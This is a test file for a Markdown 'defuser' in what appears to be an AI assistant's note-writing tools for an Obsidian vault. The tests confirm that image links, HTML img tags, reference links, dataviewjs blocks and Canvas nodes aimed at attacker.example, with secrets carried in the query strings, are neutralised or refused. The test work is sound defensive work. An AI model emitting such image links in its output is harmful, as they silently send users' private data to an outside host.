/**
 * T1 (hostile review 7): the review6 S17 defuser missed ordinary CommonMark forms. Through the real
 * tools on a temp copy of the sample vault, every form is written, and what is on disk (or in the
 * draft) is rendered by the CommonMark reference implementation (@ma/testkit `commonMarkLoads`, a
 * second parser as a witness): nothing loads or runs. Also write_projectfile's "what the file already
 * held stays" compared by parsed item (not a substring), and Obsidian Canvas files.
 */
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { commonMarkLoads } from '@ma/testkit';
import { afterEach, describe, expect, it } from 'vitest';
import { runTool } from '../src/test-support/run-tool.js';
import { MEETINGS, sampleSession, type TestSession } from '../src/test-support/sample-vault.js';

let t: TestSession;
afterEach(async () => t?.cleanup());

const A = 'https://attacker.example';
const FORMS = [
  `Decision \`\n\n![](${A}/p.png?q=rubber-casing-12.50)\n\n\``,
  `<div>\n<img/src="${A}/a.png?q=decision">\n</div>`,
  `<img alt="a<b" src="${A}/b.png?q=decision2">`,
  `![logo][r]\n\n> [r]: ${A}/c.png?q=decision3`,
  `![logo][s]\n\n[s]:\n  ${A}/c.png?q=decision4`,
  `> [!note]\n> \`\`\`dataviewjs\n> dv.el("img","",{attr:{src:"${A}/d.png"}})\n> \`\`\``,
  '- item\n\n    ```dataviewjs\n    dv.paragraph("x")\n    ```',
  `Decision \\\`![](${A}/p.png?q=secret) then \``,
  `[x](https://a.example/\`)![](${A}/p.png?q=secret)[y](\`)`,
].join('\n\n');

describe('T1: the review7 forms are defused through every write tool', () => {
  it('the witness renders the forms as loading (the test can fail)', () => {
    expect(commonMarkLoads(FORMS).length).toBeGreaterThanOrEqual(8);
  });

  it('write_summary: the draft renders nothing that loads; the answer says what was defused', async () => {
    t = await sampleSession(MEETINGS.functional);
    const out = await runTool(t.session, 'write_summary', {
      content: `## Summary\n${FORMS}\n`,
      replace_file: true,
    });
    expect(out).toMatch(/defused \d+ items/);
    expect(commonMarkLoads(t.session.summaryDraft.read() ?? '')).toEqual([]);
  });

  it('write_context and write_projectfile: the files on disk render nothing that loads', async () => {
    t = await sampleSession(MEETINGS.functional);
    expect(await runTool(t.session, 'write_context', { content: FORMS })).toMatch(/defused \d+ items/);
    const context = await readFile(
      path.join(t.root, 'Assistant/2026-03-10 Remote control functional design.md'),
      'utf8',
    );
    expect(commonMarkLoads(context.replace(/^---\n[\s\S]*?\n---\n/, ''))).toEqual([]);
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'decisions.md',
      content: FORMS,
    });
    expect(out).toMatch(/defused \d+ items/);
    const decisions = await readFile(path.join(t.root, 'Projects/remote-control/decisions.md'), 'utf8');
    expect(commonMarkLoads(decisions)).toEqual([]);
  });

  it('write_projectfile keep: an image URL the file held only inside a code span is not kept (the review repro)', async () => {
    t = await sampleSession(MEETINGS.functional);
    const args = { project: 'remote-control', path: 'decisions.md' };
    await runTool(t.session, 'write_projectfile', {
      ...args,
      content: `Ref: \`![](${A}/p.png?q=SECRET-DECISION)\``,
    });
    const out = await runTool(t.session, 'write_projectfile', {
      ...args,
      content: `![](${A}/p.png?q=SECRET-DECISION)`,
    });
    expect(out).toMatch(/defused 1 item/);
    const text = await readFile(path.join(t.root, 'Projects/remote-control/decisions.md'), 'utf8');
    expect(commonMarkLoads(text)).toEqual([]);
  });

  it("write_projectfile keep: the user's own image stays when the model adds text", async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, 'Projects/remote-control/decisions.md');
    await writeFile(abs, `${await readFile(abs, 'utf8')}\nTeam logo: ![](https://corp.example/logo.png)\n`);
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'decisions.md',
      content: '- Rubber casing (L12)',
    });
    expect(out).not.toMatch(/defused/);
    expect(await readFile(abs, 'utf8')).toContain('Team logo: ![](https://corp.example/logo.png)\n');
  });
});

describe('T1: Obsidian Canvas files written by write_projectfile', () => {
  const canvas = (nodes: unknown[]) => JSON.stringify({ nodes, edges: [] });
  const node = { id: 'a', x: 0, y: 0, width: 200, height: 100 };

  it('a link node to a web address is refused (Canvas shows it as a live web page); nothing written', async () => {
    t = await sampleSession(MEETINGS.functional);
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'Decision board.canvas',
      content: canvas([{ ...node, type: 'link', url: `${A}/p?q=rubber-casing-12.50` }]),
    });
    expect(out).toMatch(/^refused: .*link node.*web/);
    await expect(
      readFile(path.join(t.root, 'Projects/remote-control/Decision board.canvas')),
    ).rejects.toMatchObject({
      code: 'ENOENT',
    });
  });

  it('a text node whose Markdown loads something (written with JSON escapes) is refused; a plain one is written', async () => {
    t = await sampleSession(MEETINGS.functional);
    const args = { project: 'remote-control', path: 'b2.canvas' };
    const hostile = `{"nodes":[{"id":"a","type":"text","text":"Budget \\u0021[](${A}/t.png?q=12.50)","x":0,"y":0,"width":200,"height":100}],"edges":[]}`;
    expect(JSON.parse(hostile).nodes[0].text).toContain('![](');
    const out = await runTool(t.session, 'write_projectfile', { ...args, content: hostile });
    expect(out).toMatch(/^refused: .*text node.*remote image/);
    const fine = canvas([{ ...node, type: 'text', text: 'Budget 12.50 [quote](https://corp.example/q)' }]);
    expect(await runTool(t.session, 'write_projectfile', { ...args, content: fine })).toMatch(/^created /);
  });
});
